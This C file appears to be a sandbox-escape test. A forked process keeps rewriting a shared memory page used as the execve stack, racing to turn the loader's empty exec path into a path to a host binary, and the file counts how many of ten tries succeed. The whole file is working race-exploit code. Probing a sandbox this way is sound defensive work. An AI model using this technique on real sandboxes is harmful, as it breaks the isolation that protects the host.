/* An exec whose stack lies in memory another process writes. The sandbox
 * runs every program through its loader, by an exec of the loader's fd
 * with an empty path; if it wrote that empty path below the caller's stack
 * pointer, a process sharing the page could turn it into a host path
 * before the kernel reads it. Here the caller moves its stack pointer into
 * a MAP_SHARED page and calls execve on the image's program, while a
 * forked process sharing the page keeps writing "/////...<hostbin>" over
 * everything below that stack pointer. Natively, the host program is
 * first run directly, to show the canary notices it. */
#include <signal.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/wait.h>

#include "esc.h"

#define REGION (64 * 1024)
#define SLED 2048
#define TRIES 10

/* execve with the stack pointer at top, and back to the old stack. */
static long execve_on_stack(char *top, const char *path, char *const *av, char *const *ev)
{
	long ret;
	__asm__ volatile("mov %%rsp, %%r12\n\t"
			 "mov %[top], %%rsp\n\t"
			 "syscall\n\t"
			 "mov %%r12, %%rsp"
			 : "=a"(ret)
			 : "a"((long)SYS_execve), "D"(path), "S"(av), "d"(ev), [top] "r"(top)
			 : "rcx", "r11", "r12", "memory");
	return ret;
}

/* Everything below top (but the last 16 bytes) reads as a path to the
 * host program, from whichever byte it is read. */
static void fill(char *top, const char *pattern)
{
	memcpy(top - SLED, pattern, SLED - 16);
}

static void race_once(const char *image_bin, const char *hostbin)
{
	char *region = mmap(NULL, REGION, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	if (region == MAP_FAILED)
		_exit(3);
	char *top = region + REGION;
	static char pattern[SLED];
	size_t hl = strlen(hostbin) + 1;
	memset(pattern, '/', sizeof(pattern));
	memcpy(pattern + SLED - 16 - hl, hostbin, hl);
	fill(top, pattern);
	volatile int *started = (volatile int *)region;
	pid_t writer = fork();
	if (writer == 0) {
		prctl(PR_SET_PDEATHSIG, SIGKILL);
		alarm(3);
		*started = 1;
		for (;;)
			fill(top, pattern);
	}
	while (writer > 0 && !*started)
		;
	char *av[] = { (char *)image_bin, "--version", NULL };
	char *ev[] = { NULL };
	long r = execve_on_stack(top, image_bin, av, ev);
	say("execve %s on the shared stack: %s\n", image_bin, res(r < 0 ? -1 : r, (int)-r));
	_exit(42);
}

int main(int argc, char **argv)
{
	esc_init(argc, argv);
	const char *hostbin = arg("hostbin"), *image_bin = arg("image_bin");
	pid_t pid = fork();
	if (pid == 0) {
		char *av[] = { (char *)hostbin, NULL };
		char *ev[] = { NULL };
		execve(hostbin, av, ev);
		say("execve %s: %s\n", hostbin, res(-1, errno));
		_exit(42);
	}
	int st = 0;
	waitpid(pid, &st, 0);
	say("host program directly: status %d\n", st);

	int ran = 0, failed = 0, other = 0;
	for (int i = 0; i < TRIES; i++) {
		pid = fork();
		if (pid == 0)
			race_once(image_bin, hostbin);
		if (pid < 0)
			break;
		waitpid(pid, &st, 0);
		if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
			ran++;
		else if (WIFEXITED(st) && WEXITSTATUS(st) == 42)
			failed++;
		else
			other++;
	}
	say("shared stack: %d tries, exit 0 in %d, exec failed in %d, other endings %d\n", TRIES, ran, failed,
	    other);
	return 0;
}
